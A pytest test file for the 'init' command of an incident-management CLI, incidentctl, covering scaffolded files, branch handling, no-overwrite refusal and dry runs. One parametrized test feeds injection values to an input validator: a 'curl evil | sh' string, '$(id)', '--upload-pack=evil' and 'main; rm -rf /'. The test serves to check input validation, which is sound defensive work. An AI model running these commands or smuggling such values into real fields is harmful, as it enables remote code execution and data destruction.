"""``incidentctl init``: a working incident repository in one command, never an overwrite."""

from __future__ import annotations

import subprocess
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
import yaml

from conftest import REPO_ROOT
from gitrepo import Repo
from incidentctl.starter import WORKFLOWS, Starter, starter_files, template, workflow

if TYPE_CHECKING:
    from conftest import RunCli

NOW = "2026-12-03T09:00:00Z"  # a Thursday


def git_env(tmp_path: Path) -> dict[str, str]:
    """A Git user and no user or system configuration, as tests/gitrepo.py runs Git."""
    home = tmp_path / "home"
    home.mkdir(exist_ok=True)
    (home / ".gitconfig").write_text(
        "[user]\n\tname = Alice Example\n\temail = alice@example.com\n"
        "[init]\n\tdefaultBranch = trunk\n[commit]\n\tgpgsign = false\n",
        encoding="utf-8",
    )
    return {
        "HOME": str(home),
        "XDG_CONFIG_HOME": str(home / ".config"),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_CONFIG_GLOBAL": str(home / ".gitconfig"),
    }


def test_the_repositorys_workflows_are_the_ones_init_writes() -> None:
    """Pinned actions, permissions and triggers are kept in one place, the templates."""
    for name in WORKFLOWS:
        committed = (REPO_ROOT / ".github" / "workflows" / name).read_text(encoding="utf-8")
        assert committed == workflow(name, "main", "."), name
    form = REPO_ROOT / ".github" / "ISSUE_TEMPLATE" / "incident.yml"
    assert form.read_text(encoding="utf-8") == template("issue-form.yml")


def test_init_in_an_empty_folder_gives_a_valid_repository(tmp_path: Path, run_cli: RunCli) -> None:
    target = tmp_path / "incidents-repo"
    env = git_env(tmp_path)
    result = run_cli(
        ["init", target, "--timezone", "Europe/Berlin", "--owner", "@acme/support", "--now", NOW],
        env=env,
    )
    assert result.exit_code == 0, result.stderr
    written = {
        line.removeprefix("wrote ") for line in result.stdout.splitlines() if "wrote" in line
    }
    expected = {
        "incidentctl.yaml",
        "policies/sla/standard.yaml",
        "policies/calendars/business-hours.yaml",
        "policies/defects.yaml",
        ".pre-commit-config.yaml",
        ".github/CODEOWNERS",
        ".github/ISSUE_TEMPLATE/incident.yml",
        "incidents/.gitkeep",
        *(f".github/workflows/{name}" for name in WORKFLOWS),
        *(f"schemas/{kind}.json" for kind in ("incident", "rca", "slapolicy", "calendar")),
        "schemas/defectpolicy.json",
        "schemas/config.json",
        *(f"schemas/{kind}.json" for kind in ("service", "customer", "notificationpolicy")),
    }
    assert written == expected
    assert all((target / path).is_file() for path in expected)
    # git init was run, on a branch the configuration and the workflows agree on
    head = subprocess.run(
        ["git", "-C", target, "symbolic-ref", "--short", "HEAD"],
        capture_output=True, text=True, env=env, check=True,
    ).stdout.strip()  # fmt: skip
    assert head == "main"
    config = yaml.safe_load((target / "incidentctl.yaml").read_text(encoding="utf-8"))
    assert config["branch"] == "main" and config["timezone"] == "Europe/Berlin"
    calendar = (target / "policies/calendars/business-hours.yaml").read_text(encoding="utf-8")
    assert "timezone: Europe/Berlin" in calendar
    assert "/policies/ @acme/support" in (target / ".github/CODEOWNERS").read_text("utf-8")
    defects = yaml.safe_load((target / "policies/defects.yaml").read_text(encoding="utf-8"))
    assert str(defects["release_train"]["first"]) == "2026-12-08"  # the next Tuesday
    policy = yaml.safe_load((target / "policies/sla/standard.yaml").read_text(encoding="utf-8"))
    assert set(policy["targets"]) == {"SEV1", "SEV2", "SEV3", "SEV4"}
    assert policy["targets"]["SEV1"]["postmortem"] == "48h"
    assert policy["targets"]["SEV1"]["rca"] == "72h"
    for name in WORKFLOWS:
        text = (target / ".github/workflows" / name).read_text(encoding="utf-8")
        assert text == workflow(name, "main", "incidentctl==0.1.0")
    validated = run_cli(["-C", target, "validate"], env=env)
    assert validated.exit_code == 0, validated.stdout + validated.stderr
    assert "5 file(s) valid" not in validated.stdout  # the four documents and nothing else
    assert "4 file(s) valid" in validated.stdout


def test_init_never_overwrites_and_writes_nothing_when_refused(
    tmp_path: Path, run_cli: RunCli
) -> None:
    target = tmp_path / "repo"
    (target / "policies").mkdir(parents=True)
    (target / "policies" / "defects.yaml").write_text("# mine\n", encoding="utf-8")
    result = run_cli(["init", target], env=git_env(tmp_path))
    assert result.exit_code == 2
    assert "policies/defects.yaml" in result.stderr
    assert sorted(p.relative_to(target).as_posix() for p in target.rglob("*")) == [
        "policies",
        "policies/defects.yaml",
    ]
    assert (target / "policies" / "defects.yaml").read_text(encoding="utf-8") == "# mine\n"


def test_dry_run_lists_and_writes_nothing(tmp_path: Path, run_cli: RunCli) -> None:
    target = tmp_path / "empty"
    target.mkdir()
    result = run_cli(["init", target, "--dry-run", "--branch", "master"], env=git_env(tmp_path))
    assert result.exit_code == 0, result.stderr
    assert "would write  policies/sla/standard.yaml" in result.stdout
    assert "would run  git init -b master" in result.stdout
    assert list(target.iterdir()) == []


def test_init_in_an_existing_repository_on_master(tmp_path: Path, run_cli: RunCli) -> None:
    env = git_env(tmp_path)
    repo = Repo(tmp_path / "repo")  # an empty repository, whose HEAD is main
    repo.git("symbolic-ref", "HEAD", "refs/heads/master")
    result = run_cli(["init", repo.path, "--commit"], env=env)
    assert result.exit_code == 0, result.stderr
    assert "committed on master" in result.stdout
    assert "branch: master" in (repo.path / "incidentctl.yaml").read_text(encoding="utf-8")
    pr = (repo.path / ".github/workflows/incidents-pr.yml").read_text(encoding="utf-8")
    assert "branches: [master]" in pr and "--ref origin/master" in pr
    assert "policies/sla/standard.yaml" in repo.git("ls-files")


def test_init_inside_another_repositorys_folder_is_refused(tmp_path: Path, run_cli: RunCli) -> None:
    repo = Repo(tmp_path / "repo")
    result = run_cli(["init", repo.path / "sub"], env=git_env(tmp_path))
    assert result.exit_code == 2
    assert "inside the Git repository" in result.stderr
    assert not (repo.path / "sub").exists()


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("install", 'incidentctl"; curl evil | sh; "'),
        ("install", "incidentctl>=1"),
        ("install", "$(id)"),
        ("branch", "--upload-pack=evil"),
        ("branch", "main; rm -rf /"),
        ("owner", "@acme support"),
        ("repository", "acme"),
        ("timezone", "Mars/Olympus"),
    ],
)
def test_values_that_go_into_workflows_are_checked(field: str, value: str) -> None:
    from incidentctl.problems import UsageError

    with pytest.raises(UsageError):
        starter_files(Starter(date(2026, 12, 3), **{field: value}))  # type: ignore[arg-type]


def test_the_readme_try_it_installs_only_what_the_tool_needs() -> None:
    readme = (REPO_ROOT / "README.md").read_text(encoding="utf-8")
    try_it = readme.split("**Try it**", 1)[1].split("```sh\n", 1)[1].split("```", 1)[0]
    assert "pip install -e . " in try_it and "[test]" not in try_it
    tests = readme.split("**Run the tests**", 1)[1].split("```sh\n", 1)[1].split("```", 1)[0]
    assert "pip install -e '.[test]'" in tests and "pytest" in tests
    new = next(line for line in readme.splitlines() if line.startswith("| `incidentctl new "))
    assert "--summary" in new
    ci = (REPO_ROOT / ".ci" / "run").read_text(encoding="utf-8")
    installs = [line for line in ci.splitlines() if "apt-get install" in line]
    assert installs and all("--no-install-recommends" in line for line in installs)
